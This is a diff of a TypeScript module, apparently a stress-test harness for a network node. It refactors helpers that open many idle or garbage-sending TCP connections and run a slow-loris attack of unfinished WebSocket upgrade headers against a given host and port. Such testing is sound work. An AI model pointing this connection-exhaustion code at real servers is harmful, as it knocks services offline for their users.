@@ -220,40 +220,11 @@ function socketSet(sockets: Socket[], timers: ReturnType<typeof setInterval>[], 
 }
 
 /**
- * Opens `count` TCP connections to `host:port` that send nothing (or, with `garbage`, one
- * random blob each), opened `batch` at a time. Resolves once every connect has settled.
- * `sources` spreads them over these local addresses (127.0.0.0/8 on loopback): many hosts.
+ * Opens `count` TCP connections to `host:port`, `batch` at a time, spread over `sources` (local
+ * addresses in 127.0.0.0/8: many hosts on loopback), and calls `onConnect` on each that
+ * connects; whatever the node answers is dropped. Resolves once every connect has settled.
  */
-export async function idleSockets(host: string, port: number, count: number, o: { batch?: number; garbage?: boolean; sources?: string[] } = {}): Promise<SocketAttack> {
-  const sockets: Socket[] = [];
-  let connected = 0;
-  const batch = o.batch ?? 100;
-  for (let i = 0; i < count; i += batch) {
-    await Promise.all(
-      Array.from({ length: Math.min(batch, count - i) }, () => {
-        return new Promise<void>((resolve) => {
-          const s = connect({ host, port, localAddress: o.sources?.[sockets.length % o.sources.length] });
-          sockets.push(s);
-          s.on('error', () => resolve());
-          s.on('close', () => resolve());
-          s.on('data', () => {}); // whatever the node answers is dropped
-          s.once('connect', () => {
-            connected++;
-            if (o.garbage) s.write(randomBytes(64 + (connected % 512)));
-            resolve();
-          });
-        });
-      }),
-    );
-  }
-  return socketSet(sockets, [], () => connected);
-}
-
-/**
- * Slow loris: `count` connections that start a WebSocket upgrade request and send one more
- * header line every `intervalMs`, never finishing the headers.
- */
-export async function slowLoris(host: string, port: number, count: number, o: { intervalMs?: number; batch?: number; sources?: string[] } = {}): Promise<SocketAttack> {
+async function openSockets(host: string, port: number, count: number, o: { batch?: number; sources?: string[] }, onConnect: (s: Socket, nth: number) => void): Promise<{ sockets: Socket[]; connected: () => number }> {
   const sockets: Socket[] = [];
   let connected = 0;
   const batch = o.batch ?? 100;
@@ -268,19 +239,42 @@ export async function slowLoris(host: string, port: number, count: number, o: { 
           s.on('data', () => {});
           s.once('connect', () => {
             connected++;
-            s.write(`GET / HTTP/1.1\r\nHost: ${host}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n`);
+            onConnect(s, connected);
             resolve();
           });
         });
       }),
     );
   }
+  return { sockets, connected: () => connected };
+}
+
+/**
+ * Opens `count` TCP connections to `host:port` that send nothing (or, with `garbage`, one
+ * random blob each), opened `batch` at a time. Resolves once every connect has settled.
+ * `sources` spreads them over these local addresses (127.0.0.0/8 on loopback): many hosts.
+ */
+export async function idleSockets(host: string, port: number, count: number, o: { batch?: number; garbage?: boolean; sources?: string[] } = {}): Promise<SocketAttack> {
+  const { sockets, connected } = await openSockets(host, port, count, o, (s, nth) => {
+    if (o.garbage) s.write(randomBytes(64 + (nth % 512)));
+  });
+  return socketSet(sockets, [], connected);
+}
+
+/**
+ * Slow loris: `count` connections that start a WebSocket upgrade request and send one more
+ * header line every `intervalMs`, never finishing the headers.
+ */
+export async function slowLoris(host: string, port: number, count: number, o: { intervalMs?: number; batch?: number; sources?: string[] } = {}): Promise<SocketAttack> {
+  const { sockets, connected } = await openSockets(host, port, count, o, (s) => {
+    s.write(`GET / HTTP/1.1\r\nHost: ${host}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n`);
+  });
   let n = 0;
   const timer = setInterval(() => {
     for (const s of sockets) if (!s.destroyed && s.writable) s.write(`X-Loris-${n}: ${n}\r\n`);
     n++;
   }, o.intervalMs ?? 1000);
-  return socketSet(sockets, [timer], () => connected);
+  return socketSet(sockets, [timer], connected);
 }
 
 /**
